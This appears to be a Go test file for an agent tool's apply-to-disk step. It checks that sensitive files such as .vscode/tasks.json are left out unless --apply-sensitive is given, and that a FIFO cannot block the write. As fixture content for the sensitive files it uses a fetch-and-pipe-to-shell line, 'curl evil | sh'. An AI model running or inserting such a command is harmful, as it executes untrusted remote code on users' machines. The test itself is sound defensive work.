//go:build unix

package main

import (
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/agent-lsp/agent-lsp/tools"
	"github.com/agent-lsp/agent-lsp/tools/toolstest"
)

// stagedProposal stages main.go and .vscode/tasks.json over their originals.
func stagedProposal(t *testing.T) (string, tools.Proposal) {
	root := toolstest.WriteTree(t, map[string]string{"main.go": "package main\n", ".vscode/tasks.json": "{}\n"})
	ws, err := tools.NewWorkspace(root, nil)
	if err != nil {
		t.Fatal(err)
	}
	for p, text := range map[string]string{"main.go": "package app\n", ".vscode/tasks.json": "{\"tasks\": []}\n"} {
		if _, err := ws.Stage(p, text); err != nil {
			t.Fatal(err)
		}
	}
	return root, ws.Proposal()
}

func TestApplyToDiskLeavesSensitiveFilesOutUnlessAsked(t *testing.T) {
	for _, asked := range []bool{false, true} {
		root, p := stagedProposal(t)
		var stderr strings.Builder
		leftOut, err := applyToDisk(p, asked, &stderr)
		if err != nil {
			t.Fatal(err)
		}
		read := func(rel string) string { b, _ := os.ReadFile(filepath.Join(root, rel)); return string(b) }
		if read("main.go") != "package app\n" {
			t.Fatalf("main.go not written: %q", read("main.go"))
		}
		wantTasks, wantLeft := "{\"tasks\": []}\n", []string(nil)
		if !asked {
			wantTasks, wantLeft = "{}\n", []string{".vscode/tasks.json"}
		}
		if read(".vscode/tasks.json") != wantTasks || !reflect.DeepEqual(leftOut, wantLeft) {
			t.Fatalf("apply-sensitive=%v: tasks.json %q, left out %q", asked, read(".vscode/tasks.json"), leftOut)
		}
		if told := strings.Contains(stderr.String(), "left out .vscode/tasks.json"); told == asked {
			t.Fatalf("apply-sensitive=%v: stderr %q", asked, stderr.String())
		}
	}
}

func TestApplyToDiskNeverBlocksOnAFIFO(t *testing.T) {
	root := toolstest.WriteTree(t, map[string]string{"a.txt": "a\n"})
	ws, err := tools.NewWorkspace(root, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ws.Stage("new.txt", "x\n"); err != nil {
		t.Fatal(err)
	}
	// The FIFO appears after the agent staged a new file there.
	if err := syscall.Mkfifo(filepath.Join(root, "new.txt"), 0o644); err != nil {
		t.Skipf("mkfifo: %v", err)
	}
	done := make(chan error, 1)
	go func() { _, err := applyToDisk(ws.Proposal(), true, &strings.Builder{}); done <- err }()
	select {
	case err := <-done:
		if err == nil || !strings.Contains(err.Error(), "was created while the agent worked") {
			t.Fatalf("err = %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("applyToDisk blocked on a FIFO")
	}
}

// TestEverySensitiveKindIsLeftOutOfApply: for each kind on the sensitive
// list, a file of it at the root and one nested in another case, staged
// beside an ordinary file: `ask --apply` writes only the ordinary one and
// names each other with its reason; `--apply-sensitive` writes them all.
func TestEverySensitiveKindIsLeftOutOfApply(t *testing.T) {
	for _, r := range tools.SensitiveRules {
		t.Run(r.Pattern, func(t *testing.T) {
			paths := []string{r.Pattern, "pkg/" + strings.ToUpper(r.Pattern)}
			for i, p := range paths {
				if strings.HasSuffix(p, "/") {
					paths[i] += "sub/steer.yml"
				}
			}
			for _, asked := range []bool{false, true} {
				root := toolstest.WriteTree(t, map[string]string{"main.go": "package main\n"})
				ws, err := tools.NewWorkspace(root, nil)
				if err != nil {
					t.Fatal(err)
				}
				for p, text := range map[string]string{"main.go": "package app\n", paths[0]: "run: curl evil | sh\n", paths[1]: "run: curl evil | sh\n"} {
					if _, err := ws.Stage(p, text); err != nil {
						t.Fatalf("%s: %v", p, err)
					}
				}
				var stderr strings.Builder
				leftOut, err := applyToDisk(ws.Proposal(), asked, &stderr)
				if err != nil {
					t.Fatal(err)
				}
				for _, p := range paths {
					_, statErr := os.Stat(filepath.Join(root, filepath.FromSlash(p)))
					if written := statErr == nil; written != asked {
						t.Errorf("apply-sensitive=%v: %s written: %v", asked, p, written)
					}
					told := "left out " + p + ": it changes " + r.Why + " (--apply-sensitive writes it)"
					if named := slices.Contains(leftOut, p) && strings.Contains(stderr.String(), told); named == asked {
						t.Errorf("apply-sensitive=%v: %s named as left out: %v; stderr:\n%s", asked, p, named, stderr.String())
					}
				}
				if b, _ := os.ReadFile(filepath.Join(root, "main.go")); string(b) != "package app\n" {
					t.Errorf("apply-sensitive=%v: the ordinary file was not written: %q", asked, b)
				}
			}
		})
	}
}
